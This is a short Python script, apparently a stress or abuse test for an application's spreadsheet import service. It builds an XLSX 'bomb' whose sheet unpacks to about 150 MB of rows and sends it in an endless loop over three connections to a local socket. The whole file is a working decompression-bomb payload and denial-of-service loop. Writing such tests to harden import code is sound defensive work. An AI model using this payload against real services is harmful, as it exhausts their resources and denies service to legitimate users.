# A hostile member's XLSX bomb: a sheet that unpacks to 150 MB of rows, sent again and again through
# `import --dry-run` on 3 connections, until killed. argv[1]: the socket.
import socket, sys, threading, zipfile, io, base64, json
buffer = io.BytesIO()
with zipfile.ZipFile(buffer, 'w', zipfile.ZIP_DEFLATED) as z:
    z.writestr('[Content_Types].xml', '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>')
    z.writestr('_rels/.rels', '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
    z.writestr('xl/workbook.xml', '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Dossiers" sheetId="1" r:id="rId1"/></sheets></workbook>')
    z.writestr('xl/_rels/workbook.xml.rels', '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')
    with z.open('xl/worksheets/sheet1.xml', 'w') as sheet:
        sheet.write(b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
        row = b'<row><c t="inlineStr"><is><t>ID</t></is></c><c t="inlineStr"><is><t>x</t></is></c></row>' * 1000
        for _ in range(1700): sheet.write(row)
        sheet.write(b'</sheetData></worksheet>')
payload = base64.b64encode(buffer.getvalue()).decode()
path = sys.argv[1]
def run():
    s = socket.socket(socket.AF_UNIX); s.connect(path); f = s.makefile('rb'); i = 0
    while True:
        i += 1
        s.sendall((json.dumps({"id": i, "type": "import", "body": {"files": [{"name": "bombe.xlsx", "contents": payload}],
                               "dryRun": True, "format": "table"}}) + "\n").encode()); f.readline()
for _ in range(3): threading.Thread(target=run, daemon=True).start()
threading.Event().wait()
